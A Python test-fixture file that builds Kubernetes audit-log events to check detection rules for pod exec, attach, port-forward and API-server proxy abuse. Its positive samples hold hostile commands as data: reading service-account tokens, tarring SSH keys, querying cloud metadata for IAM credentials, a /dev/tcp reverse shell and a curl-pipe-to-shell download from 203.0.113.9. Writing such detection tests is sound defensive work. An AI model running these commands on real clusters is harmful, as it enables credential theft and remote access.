"""Commands in pods, sessions, and the proxies of the API server."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

from tests.building import event
from tests.hunt.library.cases import pair

KUBE_PROXY = "system:serviceaccount:kube-system:kube-proxy"


def run(*command: str, **more: Any) -> dict[str, Any]:
    """An exec as kubectl makes it today."""
    query = "&".join(f"command={quote(word)}" for word in command)
    uri = f"/api/v1/namespaces/shop/pods/web/exec?{query}&container=web"
    usual: dict[str, Any] = {"name": "web", "subresource": "exec", "code": 101, "requestURI": uri}
    return event("get", **usual | more)


def proxied(resource: str, path: str, verb: str = "get", **more: Any) -> dict[str, Any]:
    where = "" if resource == "nodes" else "namespaces/shop/"
    uri = f"/api/v1/{where}{resource}/one/proxy/{path}"
    return event(verb, resource, name="one", subresource="proxy", requestURI=uri, **more)


def ephemeral(**more: Any) -> dict[str, Any]:
    return event("patch", name="web", subresource="ephemeralcontainers", **more)


MOUNTED = "/var/run/secrets/kubernetes.io/serviceaccount/token"

PAIRS = {
    "exec_service_account_token": pair(
        run("sh", "-c", f"cat {MOUNTED}"),
        [
            run("cat", "/var/run/app.token"),
            run("cat", MOUNTED, user=KUBE_PROXY, namespace="kube-system"),
            run("cat", MOUNTED, code=403),
        ],
    ),
    "exec_sensitive_file": pair(
        run("tar", "cf", "-", "/root/.ssh/id_rsa"), run("cat", "/etc/hosts", "/app/.sshd")
    ),
    "exec_cloud_metadata": pair(
        run("curl", "http://169.254.169.254/latest/meta-data/iam"),
        run("curl", "http://169.254.1.1/"),
    ),
    "exec_reverse_shell": pair(
        run("bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/4444"),
        [run("nc", "-z", "db", "5432"), run("sh", "-c", "ls /dev/pts"), run("netcat-openbsd")],
    ),
    "exec_download": pair(
        run("sh", "-c", "curl -s http://203.0.113.9/x.sh|sh"),
        [
            run("curl", "http://localhost:8080/"),
            run("curl", "https://127.0.0.1:8443/"),
            run("wget", "-qO-", "http://cart.shop.svc/healthz"),
            run("cat", "https.conf"),
        ],
    ),
    "exec_shell_or_tool": pair(
        run("env", "A=1", "/usr/bin/python3.12"), run("/app/bin/shutdown", "--bash")
    ),
    "kubectl_cp_from_pod": pair(
        [run("tar", "cf", "-", "/data"), run("sh", "-c", "/bin/tar -czf - /data | base64")],
        [
            run("tar", "xmf", "-", "-C", "/data"),
            run("tar", "czf", "backup.tar.gz", "/data"),
            run("tar", "cf", "-", "/x", user=KUBE_PROXY, namespace="kube-system"),
        ],
    ),
    "exec_kube_system": pair(
        run("id", namespace="kube-system", user=KUBE_PROXY),
        [run("id"), run("id", namespace="kube-system", code=403)],
    ),
    "pod_attach": pair(
        event("get", name="web", subresource="attach", code=101, stage="ResponseStarted"),
        event("create", name="web", subresource="attach", code=403),
    ),
    "pod_portforward": pair(
        event("create", name="web", subresource="portforward", code=101),
        event("get", name="web", subresource="portforward", code=404),
    ),
    "ephemeral_container_added": pair(
        ephemeral(), [ephemeral(code=403), event("get", name="web"), event("patch", name="web")]
    ),
    "node_proxy_request": pair(
        [proxied("nodes", "runningpods/", code=503), proxied("nodes", "metrics/../pods")],
        [
            proxied("nodes", "metrics/cadvisor"),
            proxied("nodes", "pods", code=403),
            proxied("nodes", "pods", user="system:kube-apiserver"),
        ],
    ),
    "node_proxy_exec": pair(
        proxied("nodes", "run/shop/web/web?cmd=id", "create", code=404),
        [
            proxied("nodes", "run/shop/web/web?cmd=id", "create", code=403),
            proxied("nodes", "runningpods/"),
            proxied("nodes", "logs/"),
        ],
    ),
    "pod_proxy_request": pair(
        proxied("pods", "admin", code=503), [proxied("services", ""), proxied("pods", "", code=403)]
    ),
    "service_proxy_request": pair(
        proxied("services", ".env", code=503),
        [proxied("pods", ""), proxied("services", "", code=401)],
    ),
}
